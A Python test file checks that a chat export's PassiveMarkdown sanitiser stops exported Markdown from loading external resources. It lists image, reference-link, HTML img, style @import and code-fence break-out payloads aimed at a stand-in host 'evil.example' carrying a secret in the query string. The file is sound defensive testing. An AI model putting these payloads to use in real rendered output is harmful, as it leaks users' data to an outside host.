"""Exported conversations load nothing from elsewhere, judged by a real reader of Markdown."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from chat.api.export import PassiveMarkdown

EVIL = "http://evil.example/?q=secret"


class Loading(HTMLParser):
    """The elements that could make a program fetch something."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        harmless = {"a": {"href", "title"}, "code": {"class"}, "ol": {"start"}}.get(tag, set())
        if tag in ("img", "style", "script") or {name for name, _ in attrs} - harmless:
            self.found.append(f"{tag} {attrs}")


def loaded_by(*texts: str) -> list[str]:
    passive = PassiveMarkdown()
    whole = "\n".join(f"## Answer\n\n{passive.add(text)}\n" for text in texts)
    reader = Loading()
    reader.feed(MarkdownIt("commonmark").render(whole))
    return reader.found


ATTACKS = [
    f"![x]({EVIL})",
    f"!![x]({EVIL})",
    f"[![x]({EVIL})](http://a.example)",
    f"![a [b] `]` c](<{EVIL}>)",
    f"![x][r]\n\n[r]: {EVIL}",
    f"![r]\n\n![r]: ![x]({EVIL})",
    f"![r]\n\n> - [r]:\n> {EVIL}",
    f'<img src="{EVIL}">',
    f'a <IMG\nSRC="{EVIL}"> b',
    f"a <style>@import url({EVIL})</style>",
    f"<div>\n```\n\n![x]({EVIL})\n<img src='{EVIL}'>",
    f"- a\n  ```\n  b\n<img src='{EVIL}'>",
    f" ```\n```\n<img src='{EVIL}'>",
    f"```\n ```\n<img src='{EVIL}'>",
    f"> ```\n<img src='{EVIL}'>",
    f"```\r\r```\r<img src='{EVIL}'>",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_nothing_is_loaded(text: str) -> None:
    assert not loaded_by(text)
    assert not loaded_by("```\nopen", text), "code that an earlier answer left open"
    assert not loaded_by(" ~~~", text)


@pytest.mark.parametrize(
    "text",
    [
        '```html\n<img src="http://a.example/b.png">\n![x](y)\n```',
        "Use `Vec<String>` and `vec![1]`.",
        "**Flour**, [link](http://a.example), <https://a.example> and 2 < 3!",
    ],
)
def test_code_and_plain_words_stay_as_they_are(text: str) -> None:
    assert PassiveMarkdown().add(text) == text


def test_a_picture_becomes_a_link() -> None:
    assert PassiveMarkdown().add(f"See ![the cat]({EVIL}).") == f"See [the cat]({EVIL})."


PIECES = [
    "```", "~~~", "`", " ", "  ", "    ", "\n", "\n\n", "> ", "- ", "1. ", "x", "!", "[", "]", "(", ")", "\\", "<div>",
    "<!--", "-->", "<pre>", f"![x]({EVIL})", f"<img src='{EVIL}'>", "[r]: ", EVIL, "![r]", "\t", "\r", "<?", "&lt;",
]  # fmt: skip


@settings(suppress_health_check=[HealthCheck.too_slow])  # says how busy the machine is, not how we are
@given(st.lists(st.lists(st.sampled_from(PIECES), max_size=12).map("".join), min_size=1, max_size=3))
@example(["```\n\n", " ```\n\n<img src='x'>"])
def test_nothing_is_loaded_whatever_is_put_together(texts: list[str]) -> None:
    assert not loaded_by(*texts)
